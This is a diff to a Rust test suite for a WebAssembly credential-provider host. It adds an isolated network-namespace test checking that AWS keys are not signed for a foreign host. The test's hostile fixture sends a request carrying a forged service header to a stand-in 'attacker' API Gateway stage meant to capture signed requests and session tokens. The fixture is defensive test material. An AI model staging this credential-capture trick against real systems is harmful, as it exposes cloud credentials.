@@ -4,8 +4,9 @@
 //! a name that does not resolve.
 //!
 //! These tests aim at addresses off this machine, so they run only inside a private
-//! network namespace (`unshare -rn`: nothing but loopback, and `169.254.169.254` bound
-//! on it): even if the code under test were wrong, no packet could leave. The one
+//! network namespace (`unshare -rn`: nothing but loopback, and `169.254.169.254`,
+//! `192.0.2.10` and `192.0.2.11` bound on it, the last two standing for AWS hosts):
+//! even if the code under test were wrong, no packet could leave. The one
 //! ordinary test, [`network_rules_hold_in_a_private_network_namespace`], re-runs this
 //! binary's `netns_` tests there; run any other way they refuse to start.
 
@@ -38,7 +39,9 @@ fn network_rules_hold_in_a_private_network_namespace() {
             "--net",
             "sh",
             "-c",
-            "ip link set lo up && ip addr add 169.254.169.254/32 dev lo && exec \"$@\"",
+            "ip link set lo up && ip addr add 169.254.169.254/32 dev lo \
+             && ip addr add 192.0.2.10/32 dev lo && ip addr add 192.0.2.11/32 dev lo \
+             && exec \"$@\"",
             "sh",
         ])
         .arg(&exe)
@@ -56,7 +59,7 @@ fn network_rules_hold_in_a_private_network_namespace() {
         out.status.success(),
         "tests in the network namespace failed:\n{stdout}\n{stderr}"
     );
-    let expected = 6;
+    let expected = 7;
     assert!(
         stdout.contains(&format!("test result: ok. {expected} passed")),
         "expected {expected} tests to pass in the namespace:\n{stdout}\n{stderr}"
@@ -389,4 +392,76 @@ async fn netns_a_connection_landing_on_a_forbidden_address_sends_nothing() {
         0,
         "no request byte was sent"
     );
+}
+
+/// AWS signing for a foreign service's host: under a wildcard AWS destination, the
+/// provider names `ec2` (`x-wasm-ccm-aws-service`) on a request to an API Gateway
+/// stage it controls (`attacker.execute-api.us-east-1.amazonaws.com`, which would echo
+/// the signed request and its session token back). The host signs only for the
+/// service the host name implies: that request never leaves, while one to EC2's own
+/// host is signed and sent.
+#[tokio::test]
+#[ignore = "run inside a private network namespace by network_rules_hold_in_a_private_network_namespace"]
+async fn netns_aws_keys_never_sign_for_a_foreign_service_s_host() {
+    inside_the_namespace();
+    let attacker = byte_counter("192.0.2.10:443".parse().unwrap()).await;
+    let ec2 = byte_counter("192.0.2.11:443".parse().unwrap()).await;
+    let loader = loader_with(&[
+        ("attacker.execute-api.us-east-1.amazonaws.com", "192.0.2.10"),
+        ("ec2.us-east-1.amazonaws.com", "192.0.2.11"),
+    ]);
+    let policy = "allowedOutboundHosts: ['https://*.us-east-1.amazonaws.com']\ncredentials:\n  - destination: 'https://*.us-east-1.amazonaws.com'\n    aws: {services: [ec2], accessKeyIdFile: aws-id, secretAccessKeyFile: aws-secret}\n";
+    let dir = wasm_ccm_tests::ProviderDir::new(
+        "fixture_hostile",
+        "hostile",
+        policy,
+        wasm_ccm_tests::TOKEN,
+    );
+    std::fs::write(dir.dir.path().join("aws-id"), "AKIDEXAMPLE").unwrap();
+    std::fs::write(dir.dir.path().join("aws-secret"), "secret-example").unwrap();
+    let provider = loader.load(&dir.wasm, Vec::new()).await.unwrap();
+    let send = |url: &'static str, header: Option<&'static str>| {
+        let provider = provider.clone();
+        async move {
+            let mut annotations = vec![
+                ("hostile/action", "fetch"),
+                ("hostile/url", url),
+                ("hostile/method", "POST"),
+                (
+                    "hostile/form",
+                    "Action=DescribeInstances&Version=2016-11-15",
+                ),
+            ];
+            annotations.extend(header.map(|h| ("hostile/header", h)));
+            act(&provider, &annotations).await
+        }
+    };
+    for header in [Some("x-wasm-ccm-aws-service: ec2"), None] {
+        let refused = send(
+            "https://attacker.execute-api.us-east-1.amazonaws.com/",
+            header,
+        )
+        .await
+        .unwrap_err();
+        assert!(
+            other_message(&refused).contains(DENIED),
+            "{header:?}: {refused}"
+        );
+    }
+    assert_eq!(
+        attacker.connections.load(Ordering::SeqCst),
+        0,
+        "nothing reached the stage"
+    );
+    assert_eq!(
+        denied(&loader.metrics().encode(), "credential_unavailable"),
+        2.0
+    );
+    // EC2's own host: signed and sent (the stand-in speaks no TLS, so the request
+    // fails after its first bytes arrived).
+    let _ = send("https://ec2.us-east-1.amazonaws.com/", None).await;
+    wasm_ccm_tests::eventually(Duration::from_secs(10), "bytes at the EC2 stand-in", || {
+        ec2.bytes.load(Ordering::SeqCst) > 0
+    })
+    .await;
 }
